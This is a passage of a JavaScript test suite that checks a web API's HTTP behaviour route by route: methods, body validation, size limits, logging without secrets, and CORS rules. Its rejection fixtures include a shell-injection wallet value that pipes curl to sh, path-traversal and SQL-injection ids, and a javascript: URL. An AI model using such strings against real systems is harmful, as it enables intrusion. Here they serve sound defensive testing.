// The rules of HTTP for every route of the table (src/routes.rs). The table is
// read here, so that a new route is tested without being named.

import assert from "node:assert/strict";
import { randomUUID } from "node:crypto";
import http from "node:http";
import test, { after } from "node:test";
import { setImmediate } from "node:timers/promises";
import { startAitmpl, startRawGithub, startSkillsmp } from "./fakes/skills.js";
import { page, refused } from "./clients/browser.js";
import { conforming, document, resolved } from "./support/contract.js";
import { problem, rowCounts, startWorker } from "./support/harness.js";
import { newWallet } from "./support/people.js";
import { named, pathOf, ROUTES, rowOf, isVendors } from "./support/routes.js";

const ADMIN_TOKEN = "operators-own-token-4711";
const PAGE = "https://hatch.example";

const sources = await Promise.all([startAitmpl(), startSkillsmp({ anonymousPerDay: Infinity }), startRawGithub()]);
after(() => Promise.all(sources.map((source) => source.close())));
const [AITMPL_BASE_URL, SKILLSMP_BASE_URL, RAW_GITHUB_BASE_URL] = sources.map((source) => source.url);
const SOURCES = { AITMPL_BASE_URL, SKILLSMP_BASE_URL, RAW_GITHUB_BASE_URL };

const development = await startWorker({ ...SOURCES, ADMIN_TOKEN, SEALING_KEY: "0f".repeat(32), CORS_ORIGINS: `${PAGE}/, https://other.example` });
const production = await startWorker({ ...SOURCES, ENVIRONMENT: "production", RATE_LIMITS: "off" });

const patterns = [...new Set(ROUTES.map((route) => route.pattern))];
const methodsOf = (pattern) => ROUTES.filter((route) => route.pattern === pattern).map((route) => route.method);

const project = await (await development.api("POST", "/api/projects", { name: "A project" })).json();

// --- Bodies for every route -------------------------------------------------

const NOT_TEXT = [1, 1.5, true, {}, [], ["text"]];
const long = (length) => "x".repeat(length);
const CODE = { "index.html": "<h1>Hello</h1>" };
const NOT_CODE = [
  1, true, [], "", "no json", "[]", '"text"', { "a.txt": 1 }, { "a.txt": null }, { "a.txt": { b: "c" } },
  ...["", "/a", "../a", "a/../../b", "a\\b", "C:a", "a/", ".git/config", long(241), "a\nb"].map((path) => ({ [path]: "x" })),
  { "a.txt": "", "A.txt": "" }, { a: "", "a/b": "" }, { "a.txt": '"'.repeat(480_000) },
  '{"a.txt":"\\u0000"}', '{"a.txt":"\\ud800"}',
];

const WALLET = `0x${"ab".repeat(20)}`;
const NOT_WALLETS = [...NOT_TEXT, "", "0x", WALLET.slice(2), `${WALLET}0`, `0x${"aB".repeat(20)}`, "';curl evil|sh;'"];
const NOT_TIMES = [...NOT_TEXT, "", "now", "2026-01-01", "2026-13-01T00:00:00Z"];
const VARS = { good: { KEY: "value" }, bad: [1, true, "", [], { "1A": "x" }, { A: 1 }, { A: null }] };
const BEAT = {
  walletAddress: { required: true, good: WALLET, bad: [...NOT_WALLETS, null] },
  timestamp: { required: true, good: new Date().toISOString(), bad: [...NOT_TIMES, null] },
  system: { good: { cpus: 4 }, bad: [1, true, "", [], { a: long(5000) }] },
  hostname: { good: "rack-1", bad: [...NOT_TEXT, "", long(254)] },
};

const NOT_OWNERS = [...NOT_TEXT, "", "a b", "a/b", long(40)];
const REPOSITORY = { required: true, good: "an-app", bad: [...NOT_TEXT, null, "", "a b", "a/b", long(101)] };
const NEW_REPOSITORY = { repo: REPOSITORY, owner: { good: "ada", bad: NOT_OWNERS }, appURL: { good: "https://app.example", bad: [...NOT_TEXT, long(2001)] } };
const COMMIT = {
  repo: REPOSITORY,
  owner: { required: true, good: "ada", bad: [...NOT_OWNERS, null] },
  paths: { required: true, good: [{ path: "index.html", content: "<h1>Hi</h1>" }], bad: [1, true, "text", null, {}, [], [1], [{}], [{ path: "../a", content: "" }]] },
  message: { good: "feat: a page", bad: [...NOT_TEXT, "", long(2001)] },
  branch: { good: "main", bad: [...NOT_TEXT, "", "a b", long(201)] },
};

const MODEL = { required: true, good: "sandbox", bad: [1, true, {}, [], null] };
const MESSAGES = { required: true, good: [{ role: "user", content: "Hi" }], bad: [1, true, {}, "text", [1], [{}], []] };

/** For each field of each body: valid values, and invalid ones that give a 400 with a pointer to it. */
const ROW = { displayName: "B", context: 1, maxOutput: 1, capabilities: [], quality: 3, speed: 3, source: "test" };
const BODIES = {
  "POST /api/projects": {
    name: { required: true, good: "Another", bad: [...NOT_TEXT, null, "", " \n ", long(101)] },
    description: { good: "What it is for", bad: [...NOT_TEXT, long(2001)] },
    code: { good: CODE, bad: NOT_CODE },
  },
  "PATCH /api/projects/{id}": {
    name: { good: "Another", bad: [...NOT_TEXT, "", " \n ", long(101)] },
    description: { good: "What it is for", bad: [...NOT_TEXT, long(2001)] },
    code: { good: CODE, bad: NOT_CODE },
  },
  "POST /auth/wallet/challenge": {
    address: { required: true, good: `0x${"ab".repeat(20)}`, bad: [...NOT_TEXT, null, "", "0x", `0x${"ab".repeat(19)}`, `0x${"ab".repeat(21)}`, "ab".repeat(21), `0x${"aB".repeat(20)}`] },
    chainId: { good: 1, bad: ["1", 0, -1, 1.5, 2 ** 64, 999_999, true, {}, []] },
  },
  "POST /auth/wallet/verify": {
    message: { required: true, good: "hatch.example wants you", bad: [...NOT_TEXT, null, long(4097)] },
    signature: { required: true, good: "0x", bad: [...NOT_TEXT, null, long(1025)] },
  },
  "POST /auth/stack/codes": {
    email: { required: true, good: "ada@example.com", bad: [...NOT_TEXT, null, "", "ada", "@example.com", "ada@", "a da@example.com", "a@b@c", `${"a".repeat(250)}@b.cd`] },
  },
  "POST /auth/stack/sign-in": {
    code: { required: true, good: "A1B2C3", bad: [...NOT_TEXT, null, "", long(201)] },
    nonce: { good: "n".repeat(39), bad: [...NOT_TEXT, "", long(201)] },
  },
  "POST /auth/stack/exchange": {
    code: { required: true, good: "c0de", bad: [...NOT_TEXT, null, "", long(2001)] },
    codeVerifier: { required: true, good: "v".repeat(43), bad: [...NOT_TEXT, null, "v".repeat(42), long(129)] },
    redirectUrl: { required: true, good: "http://localhost:8787/", bad: [...NOT_TEXT, null, "", long(2001)] },
  },
  "POST /auth/keys": {
    name: { required: true, good: "CI", bad: [...NOT_TEXT, null, "", long(101)] },
    scopes: { good: ["chat"], bad: [1, true, {}, "chat", ["root"], [1], ["chat", null], []] },
    expiresInDays: { good: 30, bad: ["30", 0, -1, 1.5, 3651, 2 ** 64, true, {}, []] },
  },
  "PUT /auth/credentials/{target}": {
    token: { required: true, good: "t".repeat(40), bad: [...NOT_TEXT, null, "", "two words", "é", long(501)] },
    accountId: { required: true, good: "ab".repeat(16), bad: [...NOT_TEXT, null, "", "AB".repeat(16), "ab".repeat(15)] },
  },
  "POST /api/projects/{id}/rollback": {
    version: { required: true, good: 1, bad: ["1", 0, -1, 1.5, 2 ** 64, 1e300, null, true, {}, []] },
  },
  "POST /api/chat": {
    projectId: { required: true, good: project.id, bad: [...NOT_TEXT, null, "", long(65)] },
    message: { required: true, good: "A clock", bad: [...NOT_TEXT, null, "", " \n ", long(32_001)] },
    model: { good: "claude-sonnet-5-5", bad: [...NOT_TEXT, "", long(129)] },
  },
  "POST /api/deploy": {
    projectId: { required: true, good: project.id, bad: [...NOT_TEXT, null, "", long(65)] },
    target: { good: "edge", bad: [...NOT_TEXT, "", "EDGE", "moon"] },
    code: { good: CODE, bad: NOT_CODE },
  },
  "POST /api/generate": {
    prompt: { required: true, good: "A clock", bad: [...NOT_TEXT, null, long(4001)] },
    verified: { good: true, bad: [1, "true", {}, []] },
    proof: { good: {}, bad: [1, true, "text", []] },
  },
  "POST /deployments": {
    name: { required: true, good: "an-app", bad: [...NOT_TEXT, null, "", "-app", "App", "a_b", long(21)] },
    github: { required: true, good: "https://github.com/acme/app", bad: [...NOT_TEXT, null, "", "https://evil.example/acme/app", "http://github.com/acme/app"] },
    creator: { required: true, good: WALLET, bad: [...NOT_WALLETS, null] },
    port: { good: 3000, bad: ["3000", 0, -1, 1.5, 65_536, true, {}, []] },
    branch: { good: "main", bad: [...NOT_TEXT, "", "a b", long(256)] },
    replicas: { good: 1, bad: ["1", 0, 11, 1.5, true, {}, []] },
    envVars: VARS,
  },
  "PATCH /deployments/{name}/status": {
    status: { required: true, good: "processing", bad: [...NOT_TEXT, null, "", "PENDING", "done"] },
    url: { good: "https://app.example/", bad: [...NOT_TEXT, "", "javascript:alert(1)", "ftp://x"] },
    errorMessage: { good: "It broke", bad: [...NOT_TEXT, "", long(2001)] },
  },
  "PATCH /deployments/{name}/env": { envVars: { required: true, ...VARS }, port: { good: 3000, bad: ["3000", 0, 65_536, true, {}, []] } },
  "PATCH /deployments/{name}/replicas": { replicas: { required: true, good: 2, bad: ["1", 0, 11, 1.5, null, true, {}, []] } },
  "POST /heartbeat": {
    ...BEAT,
    containers: { required: true, good: [{ containerName: "web", port: "80" }], bad: [1, true, "", null, {}, [1], [{}], [{ containerName: "" }], Array(501).fill({ name: "x" })] },
  },
  "POST /heartbeat/ping": BEAT,
  "POST /workers": {
    message: { good: "hatch.example wants you", bad: [...NOT_TEXT, long(4097)] },
    signature: { good: "0x", bad: [...NOT_TEXT, long(1025)] },
    walletAddress: { good: WALLET, bad: [...NOT_TEXT, long(57)] },
  },
  "POST /v1/chat/completions": { model: MODEL, messages: MESSAGES },
  "POST /chat/completions": { messages: MESSAGES },
  "POST /v1/messages": { model: MODEL, messages: MESSAGES, max_tokens: { required: true, good: 10, bad: ["1", 1.5, -1, null, true, {}, []] } },
  "POST /v1/messages/count_tokens": { model: MODEL, messages: MESSAGES },
  "POST /dynamic-apps/{id}/execute": { url: { required: true, good: "https://nobody.example/", bad: [...NOT_TEXT, null, "", " ", long(2001), "http://x.example/", "https://127.0.0.1/", "https://localhost/"] } },
  "POST /v1/chat/completions/{id}": { metadata: { required: true, good: { topic: "clocks" }, bad: [1, true, "text", [], { a: 1 }, { a: null }, { a: long(513) }, { [long(65)]: "a" }] } },
  "PUT /chat/completions/{id}": { title: { required: true, good: "Clocks", bad: [...NOT_TEXT, null, "", "   ", long(201)] } },
  "POST /chat/completions/{id}/feedback": {
    feedback: { required: true, good: 1, bad: ["1", 2, -2, 1.5, null, true, {}, []] },
    score: { good: 100, bad: ["1", 101, -1, 1.5, true, {}, []] },
  },
  "POST /chat/completions/{id}/check": { role: { good: "user", bad: [...NOT_TEXT, "", "system"] } },
  "POST /v1/responses/input_tokens": { model: MODEL, input: { required: true, good: "Hi", bad: [1, true, {}, [1]] } },
  "POST /v1/responses/compact": { model: MODEL, input: { required: true, good: "Hi", bad: [1, true, {}, [1]] } },
  "POST /v1/responses": { model: MODEL, input: { required: true, good: "Hi", bad: [1, true, {}, [1]] } },
  "POST /v1/completions": { model: MODEL, prompt: { required: true, good: "Hi", bad: [1, true, {}, []] } },
  "POST /v1/embeddings": { model: MODEL, input: { required: true, good: "Hi", bad: [1, true, {}, [], ""] } },
  "POST /v1/moderations": { input: { required: true, good: "Hi", bad: [1, true, {}] } },
  "PUT /v1/guardrails": { input: { good: {}, bad: [1, true, "text", [], { nothing: 1 }, { secrets: { action: "eat" } }] } },
  "PUT /admin/models": { models: { required: true, good: { "a/b": ROW }, bad: [1, true, "text", [], null, {}, { a: ROW }, { "a/b": {} }, { "a/b": { ...ROW, speed: 9 } }] } },
  "PUT /admin/models/{id}": {
    displayName: { required: true, good: "Model", bad: [...NOT_TEXT, null, "", long(201)] },
    context: { required: true, good: 1000, bad: ["1", 0, -1, 1.5, null, true, {}, []] },
    maxOutput: { required: true, good: 100, bad: ["1", -1, 1.5, null, true, {}, []] },
    prices: { good: null, bad: [1, true, "text", { input: 1 }] },
    capabilities: { required: true, good: ["tools"], bad: [1, true, "tools", {}, [1], [""]] },
    quality: { required: true, good: 3, bad: ["1", 0, 6, 1.5, null, true, {}, []] },
    speed: { required: true, good: 3, bad: ["1", 0, 6, 1.5, null, true, {}, []] },
    source: { required: true, good: "A page", bad: [...NOT_TEXT, null, "", long(201)] },
  },
  "POST /message": {
    message: { required: true, good: "A clock", bad: [...NOT_TEXT, null, "", " \n ", long(32_001)] },
    clientSource: { good: "cli", bad: [...NOT_TEXT, long(65)] },
    settings: { good: { deployTarget: "edge" }, bad: [1, true, "text", [], { deployTarget: "moon" }] },
  },
  "POST /analytics/event": {
    eventType: { required: true, good: "track", bad: [...NOT_TEXT, null, "", long(65)] },
    eventName: { good: "new_app_selected", bad: [...NOT_TEXT, long(129)] },
    properties: { good: {}, bad: [1, true, "text", []] },
  },
  "PUT /admin/users/{id}": { dailyMessageLimit: { required: true, good: 5, bad: ["1", 0, -1, 1001, 1.5, null, true, {}, []] } },
  "POST /github/user/create-repo": NEW_REPOSITORY,
  "POST /github/org/create-repo": NEW_REPOSITORY,
  "POST /github/user/initial-commit": COMMIT,
  "POST /github/org/initial-commit": COMMIT,
  "POST /github/user/commit": COMMIT,
  "POST /github/org/commit": COMMIT,
  "POST /payments": {
    name: { required: true, good: "Rent", bad: [...NOT_TEXT, null, "", long(256)] },
    amount: { required: true, good: "1", bad: [...NOT_TEXT, null, "", "01", "-1", "1.5", "0x1", long(79)] },
    creator: { required: true, good: WALLET, bad: [...NOT_WALLETS, null] },
    txHash: { good: `0x${"ab".repeat(32)}`, bad: [...NOT_TEXT, "", "0x1", "ab".repeat(31)] },
  },
  "POST /payments/payouts": {
    walletAddress: { required: true, good: WALLET, bad: [...NOT_WALLETS, null] },
    from: { required: true, good: "2026-01-01T00:00:00Z", bad: [...NOT_TIMES, null] },
    to: { required: true, good: "2026-01-02T00:00:00Z", bad: [...NOT_TIMES, null] },
  },
};
const bodyOf = (route) => BODIES[rowOf(route)];

const goodBody = (fields) => Object.fromEntries(Object.entries(fields).map(([name, { good }]) => [name, good]));

/** A body's JSON with one field's value replaced by other JSON. */
function withField(fields, name, json) {
  const parts = Object.entries(fields).map(([n, { good }]) => `${JSON.stringify(n)}:${n === name ? json : JSON.stringify(good)}`);
  return `{${parts.join(",")}}`;
}

/** Every row that reads a body, with its fields and with a path where only the body can be wrong. */
const WRITES = ROUTES.filter((route) => route.readsBody && !route.under).map((route) => ({
  route, path: pathOf(route, { "/auth/credentials/{target}": "cloudflare", "/admin/models/{id}": "a/b", "/dynamic-apps/{id}/execute": "extract_content" }[route.pattern] ?? project.id), fields: bodyOf(route),
}));

// --- Requests, and the rules for every response -----------------------------

const SECURITY = {
  "x-content-type-options": "nosniff",
  "strict-transport-security": "max-age=31536000",
  "referrer-policy": "no-referrer",
  "content-security-policy": "default-src 'none'; frame-ancestors 'none'",
  "cross-origin-resource-policy": "cross-origin",
};

const PAGE_SECURITY = {
  ...SECURITY,
  "content-security-policy":
    "default-src 'none'; script-src 'self'; style-src 'self'; connect-src 'self'; img-src 'self' data:; base-uri 'none'; form-action 'none'; frame-ancestors 'none'",
};

/** Sends a request. Checks that the response is not a 5xx (except for `allow`) and has the headers of every response. */
async function ask(worker, method, path, { headers = {}, body, allow } = {}) {
  const version = path.startsWith("/v1/messages") && { "anthropic-version": "2023-06-01" };
  const init = { method, headers: { ...version, ...headers }, body, redirect: "manual", duplex: "half" };
  const response = await fetch(worker.url + path, init);
  const told = `${method} ${path.slice(0, 100)}: ${response.status}`;
  assert.ok(response.status < 500 || response.status === allow, `${told} ${response.status < 500 || (await response.clone().text())}`);
  assert.match(response.headers.get("x-request-id") ?? "", /^[A-Za-z0-9_-]{8,64}$/, told);
  if (path.startsWith("/p/")) assert.equal(response.headers.get("x-content-type-options"), "nosniff", told);
  else for (const [name, value] of Object.entries(response.status === 200 && /^\/(docs|openapi)/.test(path) ? PAGE_SECURITY : SECURITY)) assert.equal(response.headers.get(name), value, `${told} ${name}`);
  return conforming(method, path, response);
}

const JSON_TYPE = { "content-type": "application/json" };
const send = (method, path, body, headers = {}) =>
  ask(development, method, path, { body, headers: { ...JSON_TYPE, ...headers } });

/** A valid request, except for the route's parameters and the caller. */
function askRoute(worker, route, id, options = {}) {
  if (!route.readsBody) return ask(worker, route.method, pathOf(route, id), options);
  const headers = { ...JSON_TYPE, ...options.headers };
  return ask(worker, route.method, pathOf(route, id), { ...options, headers, body: JSON.stringify(goodBody(bodyOf(route))) });
}

/** Whether the body has the proof of the caller's identity. */
const isSignIn = (route) => /^\/auth\/(wallet|stack)\//.test(route.pattern) || rowOf(route) === "POST /workers";

/** Runs `requests`, which may not add or remove a row of any table. */
async function changingNothing(worker, requests) {
  const rows = async () => {
    // Reading the catalogue of skills fills it.
    // A challenge writes a nonce.
    const { skills, skill_fetches, nonces, ...others } = await rowCounts(worker);
    return others;
  };
  const before = await rows();
  await requests();
  assert.deepEqual(await rows(), before);
}

// --- The table --------------------------------------------------------------

test("This test knows the fields of every body", () => {
  assert.ok(WRITES.length > 0);
  for (const { route, fields } of WRITES) assert.ok(fields, `BODIES has nothing about ${named(route)}`);
});

test("A wrong method is 405 with the path's methods in Allow", () =>
  changingNothing(development, async () => {
    for (const pattern of patterns) {
      const methods = methodsOf(pattern);
      const allow = ["OPTIONS", ...methods, ...(methods.includes("GET") ? ["HEAD"] : [])].sort().join(", ");
      const path = pathOf({ pattern }, "x");
      for (const method of ["GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "PROPFIND"]) {
        if (allow.includes(method)) continue;
        const response = await ask(development, method, path);
        assert.equal(response.headers.get("allow"), allow, `${method} ${pattern}`);
        if (method === "HEAD") assert.equal(response.status, 405);
        else await problem(response, 405, "method_not_allowed");
      }
      const options = await ask(development, "OPTIONS", path);
      assert.deepEqual([options.status, options.headers.get("allow"), await options.text()], [204, allow, ""], pattern);
    }
  }));

test("HEAD is GET without the body", async () => {
  for (const route of ROUTES.filter((route) => route.method === "GET")) {
    const [got, head] = [await askRoute(development, route, project.id), await askRoute(development, { ...route, method: "HEAD" }, project.id)];
    assert.equal(head.status, got.status, named(route));
    for (const name of ["content-type", "etag", "cache-control", "link"]) {
      assert.equal(head.headers.get(name), got.headers.get(name), `${name} of ${named(route)}`);
    }
    assert.equal(await head.text(), "", named(route));
  }
});

test("An unknown path is 404", () =>
  changingNothing(development, async () => {
    for (const path of ["/nothing", "/api", "/api/projects/", "//", "/API/projects", "/api//projects", "/%2e%2e/x", "/admin", `/${long(4000)}`]) {
      for (const method of ["GET", "POST"]) await problem(await ask(development, method, path), 404, "not_found");
    }
  }));

test("An unknown id is 404, however odd it is", () =>
  changingNothing(development, async () => {
    const odd = [
      randomUUID(), long(300), "%00", "a%00b", "..%2f", "..%2f..%2fetc%2fpasswd", "%22", "'", "';--", "%27%20OR%201=1", "🐣", "%F0%9F%90%A3",
      "%ff%fe", "%", "%zz", "a%0d%0ab", "a&b", "a=b", "+", `${project.id}&x`, `${project.id}=`, `${project.id}%20`, `${project.id}%00`,
    ];
    for (const route of ROUTES.filter((route) => route.pattern.includes("{"))) {
      for (const id of route.under ? odd.slice(0, 3) : odd) {
        const response = await askRoute(development, route, id);
        if (route.hosted) assert.equal(response.status, route.pattern === "/p/{slug}" ? 308 : isWellEncoded(id) ? 404 : 400, `${named(route)} ${id}`);
        // PUT creates the resource if the name is valid.
        else if (route.pattern.includes("{wallet}") || route.pattern === "/admin/models/{id}") await problem(response, 400, "validation_failed");
        // As the original agent platform has it.
        else if (/^\/(apps|deployment-status)\//.test(route.pattern) && !isUuid(id)) await problem(response, 400, "invalid_app_id");
        else if (route.pattern.endsWith("/archive")) await problem(response, 403, "not_signed");
        // A category is a filter, so an unknown one gives an empty list.
        else if (route.pattern.endsWith("{category}")) assert.equal((await response.json()).total, 0);
        else await problem(response, 404, "not_found");
      }
    }
  }));

const isUuid = (id) => /^[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}$/.test(id);

/** Whether a segment's escapes are those of a text without NUL. */
function isWellEncoded(segment) {
  try {
    return !decodeURIComponent(segment).includes("\0");
  } catch {
    return false;
  }
}

test("An unknown project in a body is 404", () =>
  changingNothing(development, async () => {
    for (const { route, path, fields } of WRITES.filter(({ fields }) => fields.projectId)) {
      // A chat with an unused UUID begins a project of that id.
      const unknown = path.startsWith("/api/chat") ? [] : [randomUUID()];
      for (const id of [...unknown, "'", "🐣", `${project.id} `]) {
        await problem(await send(route.method, path, withField(fields, "projectId", JSON.stringify(id))), 404, "not_found");
      }
    }
  }));

// --- Bodies -----------------------------------------------------------------

test("A body without the media type of JSON is 415", () =>
  changingNothing(development, async () => {
    for (const { route, path, fields } of WRITES) {
      const body = Buffer.from(JSON.stringify(goodBody(fields)));
      for (const type of [undefined, "text/plain", "application/x-www-form-urlencoded", "application/jsonp", "text/json", ", application/json"]) {
        const headers = type === undefined ? {} : { "content-type": type };
        await problem(await ask(development, route.method, path, { headers, body }), 415, "unsupported_media_type");
      }
    }
  }));

test("A body that is not a JSON object is 400", () =>
  changingNothing(development, async () => {
    for (const { route, path, fields } of WRITES) {
      const good = JSON.stringify(goodBody(fields));
      const bad = [
        "", " \n", "no json", "{", good.slice(0, -1), `${good},`, `${good}{}`, `\ufeff${good}`, "null", "true", "1", '"text"', "[]", `[${good}]`,
        JSON.stringify(Object.values(goodBody(fields))), "[".repeat(100_000), '{"a":'.repeat(100_000), "\u0000", Buffer.from([0x7b, 0xff, 0xfe, 0x7d]),
      ];
      for (const body of bad) {
        const { code } = await problem(await send(route.method, path, body), 400);
        assert.match(code, /^(malformed_json|validation_failed)$/);
      }
    }
  }));

test("A wrong field is 400 with a pointer to it", () =>
  changingNothing(development, async () => {
    for (const { route, path, fields } of WRITES) {
      for (const [name, { bad }] of Object.entries(fields)) {
        for (const value of bad) {
          const response = await send(route.method, path, withField(fields, name, JSON.stringify(value)));
          const { errors, detail } = await problem(response, 400, "validation_failed");
          assert.match(errors[0].pointer, new RegExp(`^/${name}(/|$)`), `${named(route)} ${JSON.stringify(value).slice(0, 50)}: ${detail}`);
        }
      }
    }
  }));

test("A field that is missing, occurs twice or has forbidden characters is 400", () =>
  changingNothing(development, async () => {
    for (const { route, path, fields } of WRITES) {
      const good = goodBody(fields);
      for (const [name, { required }] of Object.entries(fields)) {
        const twice = JSON.stringify(good).replace(/\}$/, `,${JSON.stringify({ [name]: good[name] }).slice(1)}`);
        const { [name]: _, ...others } = good;
        // Vendors' bodies may have a member twice, and models accept any character.
        const bodies = [
          ...(isVendors(route) ? [] : [twice, ...['"a\\u0000b"', '"a\\ud800b"', '"\\udc00"'].map((json) => withField(fields, name, json))]), ...['"\\x"', '"\u0001"', "[".repeat(100_000) + "]".repeat(100_000)].map((json) => withField(fields, name, json)),
          ...(required ? [JSON.stringify(others)] : []),
        ];
        for (const body of bodies) await problem(await send(route.method, path, body), 400);
      }
    }
  }));

/** The same as `send`, with the body's length announced or in chunks. */
function upload(method, path, body, isChunked) {
  if (!isChunked) return send(method, path, body);
  const stream = new Blob([body]).stream();
  return ask(development, method, path, { body: stream, headers: JSON_TYPE });
}

test("A body of 5 MB is 413, with and without Content-Length", () =>
  changingNothing(development, async () => {
    for (const { route, path, fields } of WRITES.filter(({ route }) => !isVendors(route))) {
      const body = JSON.stringify({ ...goodBody(fields), padding: long(5_000_000) });
      for (const isChunked of [false, true]) await problem(await upload(route.method, path, body, isChunked), 413, "body_too_large");
    }
  }));

test("A request that is refused before its body is read gets its response, however large the body is", () =>
  changingNothing(development, async () => {
    const image = JSON.stringify({ padding: long(5_000_000) });
    const wrongKey = { authorization: `Bearer hk_live_${"A".repeat(43)}` };
    for (const isChunked of Array.from({ length: 20 }, (_, n) => n % 2 === 1)) {
      await problem(await upload("POST", "/nowhere", image, isChunked), 404, "not_found");
      await problem(await upload("POST", "/health", image, isChunked), 405, "method_not_allowed");
    }
    for (let n = 0; n < 20; n += 1) await problem(await send("POST", "/v1/chat/completions", image, wrongKey), 401, "unauthorized");
  }));

test("An invalid query parameter is 400", () =>
  changingNothing(development, async () => {
    const limits = ["0", "101", "abc", "-1", "1.5", "", "99999999999999999999", "1e1", "%00", " 5"].map((limit) => ["limit", limit]);
    const cursors = ["garbage", "", "%00", "====", "🐣", Buffer.from("1").toString("base64url"), Buffer.from("-1.x").toString("base64url"), Buffer.from("1.\0").toString("base64url"), long(5000)].map((cursor) => ["cursor", cursor]);
    const lists = ["/api/projects", `/api/projects/${project.id}/versions`, `/api/chat/${project.id}`, "/api/discovery", "/admin/jobs", "/admin/dead-letters", "/deployments", "/workers", "/payments", `/workers/${WALLET}/uptime`];
    for (const path of lists) {
      for (const [name, value] of [...limits, ...cursors]) {
        const { errors } = await problem(await ask(development, "GET", `${path}?${name}=${value}`), 400, "validation_failed");
        assert.equal(errors[0].pointer, name);
      }
    }
    for (const query of ["sort=best", "sort=", "q=%00", `q=${long(201)}`]) {
      await problem(await ask(development, "GET", `/api/discovery?${query}`), 400, "validation_failed");
    }
  }));

test("No query string makes a route fail", () =>
  changingNothing(development, async () => {
    for (const route of ROUTES.filter((route) => route.method === "GET" && !route.under)) {
      for (const query of ["limit=abc", "cursor=%00", "page=-1", "q=%00%ff'%22", "sort=%F0%9F%90%A3", "category=%00", "type=%00", "format=%00", "&&=&", "%", long(4000)]) {
        await (await ask(development, "GET", `${pathOf(route, project.id)}?${query}`)).text();
      }
    }
  }));

// --- Request ids and the log ------------------------------------------------

test("A harmless request id is echoed, another one is replaced", async () => {
  for (const id of ["abcDEF-123_", "x".repeat(8), "x".repeat(64)]) {
    assert.equal((await ask(development, "GET", "/", { headers: { "x-request-id": id } })).headers.get("x-request-id"), id);
  }
  for (const id of ["x".repeat(7), "x".repeat(65), "with blanks", 'quo"te"d', "<script>x", "naïveté-x"]) {
    const response = await ask(development, "GET", "/nothing", { headers: { "x-request-id": id } });
    assert.match((await problem(response, 404)).request_id, /^req_[0-9a-f-]{36}$/);
  }
});

/** The log's lines about a request. The console is in order, so all of them are there when those of a later request are. */
async function logged(requestId) {
  const about = (id) => development.harness.getLogs().map((line) => line.message).filter((line) => line.includes(id));
  const later = (await ask(development, "GET", "/health")).headers.get("x-request-id");
  while (about(later).length === 0) await setImmediate();
  return about(requestId);
}

test("A request leaves one line of JSON in the log, with its route, status and id", async () => {
  const requests = [
    ["GET", `/api/projects/${project.id}`, "/api/projects/{id}", 200],
    ["GET", "/api/projects/unknown", "/api/projects/{id}", 404],
    ["POST", "/api/projects", "/api/projects", 415],
    ["OPTIONS", "/api/discovery", "/api/discovery", 204],
    ["GET", "/nothing", null, 404],
  ];
  for (const [method, path, route, status] of requests) {
    const response = await ask(development, method, path);
    const lines = await logged(response.headers.get("x-request-id"));
    assert.equal(lines.length, 1, lines.join("\n"));
    const { duration_ms, ...line } = JSON.parse(lines[0]);
    const request_id = response.headers.get("x-request-id");
    assert.match(line.trace_id, /^[0-9a-f]{32}$/);
    assert.equal(line.trace_id, request_id.slice("req_".length).replaceAll("-", ""));
    const caller = route && method !== "OPTIONS" ? "local-developer" : null;
    assert.deepEqual(line, { level: "info", method, path, route, status, request_id, trace_id: line.trace_id, caller, credential: null });
    assert.equal(typeof duration_ms, "number");
  }
});

test("The log has no secret of a request", async () => {
  const secret = "hk_live_7sKq2mZpX9vB4nRt";
  const requests = [
    ["/api/projects", { authorization: `Bearer ${secret}` }],
    ["/api/projects", { "x-api-key": secret }],
    [`/api/projects?key=${secret}`, {}],
    [`/api/projects/${secret}`, {}],
  ];
  for (const [path, headers] of requests) {
    const response = await ask(development, "GET", path, { headers });
    assert.equal((await logged(response.headers.get("x-request-id"))).length, 1);
  }
  assert.ok(!development.harness.getLogs().some((line) => line.message.includes("7sKq2mZpX9vB4nRt")));
});

// --- Other origins ----------------------------------------------------------

const FOREIGN = [
  "https://evil-hatch.example", "https://hatch.example.evil.com", "https://x.hatch.example", "http://hatch.example", "https://hatch.example:444",
  "https://HATCH.example", "https://hatch.example/", "https://hatch.exampl", "null", "*", `${PAGE}, https://evil.com`,
  "http://app.localhost:3000", "http://evil.localhost:5173", "https://localhost:3000", "http://localhost.evil.com", "http://127.0.0.1.evil.com:3000", "http://[::1]:3000",
];
/** Of a developer's own servers. */
const LOCAL = ["http://localhost:5173", "http://localhost:3001", "http://127.0.0.1:3000", "http://localhost"];

const corsHeaders = ({ headers }) => [...headers.keys()].filter((name) => name.startsWith("access-control-"));

test("Only pages of the listed origins, and in development of this machine, may read responses", async () => {
  for (const path of ["/health", "/api/projects", "/nothing"]) {
    for (const origin of [PAGE, ...LOCAL]) {
      const { headers } = await ask(development, "GET", path, { headers: { origin } });
      assert.equal(headers.get("access-control-allow-origin"), origin);
      assert.match(headers.get("access-control-expose-headers"), /ETag, Link, .*X-Request-Id/);
      assert.equal(headers.get("access-control-allow-credentials"), "true");
      assert.equal(headers.get("vary"), "Origin");
    }
    for (const origin of [...FOREIGN, undefined]) {
      const response = await ask(development, "GET", path, origin && { headers: { origin } });
      assert.deepEqual(corsHeaders(response), [], `${origin} ${path}`);
      assert.equal(response.headers.get("vary"), "Origin", "a cache may give this answer to a page of a listed origin");
    }
  }
});

test("In production only pages of CORS_ORIGINS may read and write", async () => {
  for (const origin of [...LOCAL, ...FOREIGN]) {
    const response = await ask(production, "GET", "/health", { headers: { origin } });
    assert.deepEqual([corsHeaders(response), response.headers.get("vary")], [[], null], origin);
    assert.deepEqual(corsHeaders(await ask(production, "OPTIONS", "/api/projects", { headers: { origin } })), [], origin);
    await problem(await ask(production, "POST", "/api/projects", { headers: { origin, ...JSON_TYPE }, body: "{}" }), 403, "origin_not_allowed");
  }
});

test("A preflight is 204, with a permission for the listed origins only", async () => {
  const asking = { "access-control-request-method": "PATCH", "access-control-request-headers": "content-type,if-match" };
  for (const origin of [PAGE, ...LOCAL]) {
    const { status, headers } = await ask(development, "OPTIONS", "/api/projects/x", { headers: { origin, ...asking } });
    assert.equal(status, 204);
    assert.equal(headers.get("access-control-allow-origin"), origin);
    assert.equal(headers.get("access-control-allow-credentials"), "true");
    assert.equal(headers.get("access-control-allow-methods"), "DELETE, GET, HEAD, OPTIONS, PATCH");
    assert.equal(headers.get("access-control-max-age"), "7200");
    assert.equal(headers.get("vary"), "Origin");
  }
  for (const origin of FOREIGN) {
    const refused = await ask(development, "OPTIONS", "/api/projects/x", { headers: { origin, ...asking } });
